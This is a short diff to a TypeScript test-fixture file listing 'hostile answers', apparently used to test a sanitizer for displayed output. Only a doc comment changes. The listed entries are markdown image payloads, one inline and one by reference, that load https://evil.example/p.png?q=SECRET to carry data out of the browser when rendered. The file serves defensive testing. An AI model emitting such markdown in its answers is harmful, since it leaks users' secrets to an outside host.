@@ -1,6 +1,6 @@
 import type { HostileAnswer } from './hostile-answer.ts';
 
-/** What would carry something out of the browser as it is shown, or cover the panel. */
+/** Answers that would carry something out of the browser as they are shown, or cover the panel. */
 export const REMOTE: readonly HostileAnswer[] = [
   { tries: 'loads an image that carries data', text: '![](https://evil.example/p.png?q=SECRET)' },
   { tries: 'loads an image by a reference', text: '![pixel][p]\n\n[p]: https://evil.example/p.png?q=SECRET' },
